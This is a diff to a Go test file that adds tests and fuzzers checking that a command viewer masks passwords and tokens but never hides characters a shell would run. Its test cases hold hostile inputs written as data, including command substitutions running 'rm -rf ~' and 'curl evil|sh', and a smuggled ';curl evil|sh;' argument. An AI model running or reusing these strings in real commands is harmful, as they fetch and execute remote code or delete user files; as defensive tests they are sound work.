@@ -11,6 +11,7 @@ import (
 	"testing"
 	"unicode/utf8"
 
+	"vogt/internal/grant"
 	"vogt/internal/reading"
 )
 
@@ -166,6 +167,88 @@ func TestCommandOf(t *testing.T) {
 	if html.EscapeString(s.Text) == "" {
 		t.Error("nothing is left of the command")
 	}
+}
+
+// TestMaskHidesNothingThatRuns: values are masked, what a shell could run stays.
+func TestMaskHidesNothingThatRuns(t *testing.T) {
+	for _, c := range []struct {
+		argv   []string
+		hidden string // "" where the command must be shown as it is
+	}{
+		{[]string{"x", "--password=$(rm -rf ~)"}, ""},
+		{[]string{"sh", "-c", "PASSWORD=`curl evil|sh` true"}, ""},
+		{[]string{"PASSWORD=`curl evil|sh`"}, ""},
+		{[]string{"useradd", "-p", ";curl evil|sh;", "x"}, ""},
+		{[]string{"x", "--token", "a\nb"}, ""},
+		{[]string{"x", "--token=a&b"}, ""},
+		{[]string{"x", "--token='a'"}, ""},
+		{[]string{"x", "--token=<(id)"}, ""},
+		{[]string{"x", "--token=a\u00a0b"}, ""},
+		{[]string{"x", "--password", "hunter2-Correct"}, "hunter2-Correct"},
+		{[]string{"x", "--password=hunter2-Correct"}, "hunter2-Correct"},
+		// Only what is masked counts, not what stands around it.
+		{[]string{"curl", "-H", "Authorization: Bearer abcdefghijklmnopqrstuvwxyz0123"}, "ijklmnopqrstuvwxyz0123"},
+		{[]string{"sh", "-c", "PASSWORD=hunter2 run; rm -rf ~"}, "hunter2"},
+	} {
+		whole, line := reading.Line(c.argv), lineOf(grant.Request{Command: c.argv})
+		view := commandOf(c.argv, false)
+		if c.hidden == "" {
+			if view.Text != whole || view.Secrets != 0 || line != whole {
+				t.Errorf("%q is shown as %q and listed as %q", c.argv, view.Text, line)
+			}
+			// By itself a text may be read in parts, of which only values go.
+			if arg := c.argv[len(c.argv)-1]; strings.ContainsAny(arg, "$`") && maskedText(arg) != arg {
+				t.Errorf("%q by itself is shown as %q", arg, maskedText(arg))
+			}
+			continue
+		}
+		if strings.Contains(view.Text, c.hidden) || strings.Contains(line, c.hidden) || view.Secrets != 1 || view.Unmasked != whole {
+			t.Errorf("%q is shown as %q and listed as %q", c.argv, view.Text, line)
+		}
+	}
+}
+
+// FuzzMaskedArgv: whatever is masked, every character that a shell reads as
+// more than itself is still there, in its order.
+func FuzzMaskedArgv(f *testing.F) {
+	f.Add("curl", "--password=$(id)", "https://u:p@h/?token=a&key=b c")
+	f.Add("sh", "-c", "TOKEN='a b' x; API_KEY=\"$(y)\" z")
+	f.Fuzz(func(t *testing.T, a, b, c string) {
+		argv := []string{a, b, c}
+		for i, masked := range maskedArgv(argv) {
+			keep := func(s string) string {
+				return strings.Map(func(r rune) rune {
+					if strings.ContainsRune(" \t\n\"'$`;|&<>()", r) {
+						return r
+					}
+					return -1
+				}, s)
+			}
+			if keep(argv[i]) != keep(masked) {
+				t.Errorf("%q became %q", argv[i], masked)
+			}
+		}
+	})
+}
+
+// FuzzCommand: the boxes around words change nothing of the text, and each
+// holds one word.
+func FuzzCommand(f *testing.F) {
+	for _, s := range []string{"rm -rf ./build-a/b", "a\nb-c\u200b-d", "<span class=\"w\">", "//x--y// -z", "-", " - \n", " /0", "-rf /home/x-y"} {
+		f.Add(s)
+	}
+	box := regexp.MustCompile(`<span class="w">((?:<span class="(?:inv|nl)">[^<]*</span>|[^<])*)</span>`)
+	f.Fuzz(func(t *testing.T, s string) {
+		shown, plain := string(command(s)), string(marked(s, true))
+		if got := box.ReplaceAllString(shown, "$1"); got != plain {
+			t.Errorf("%q: %s, without boxes %s, want %s", s, shown, got, plain)
+		}
+		for _, m := range box.FindAllStringSubmatch(shown, -1) {
+			if text := regexp.MustCompile(`<[^>]*>`).ReplaceAllString(m[1], ""); strings.ContainsAny(strings.TrimRight(text, "/"), " \n/") {
+				t.Errorf("%q: a box holds %q", s, text)
+			}
+		}
+	})
 }
 
 func FuzzLocalPath(f *testing.F) {
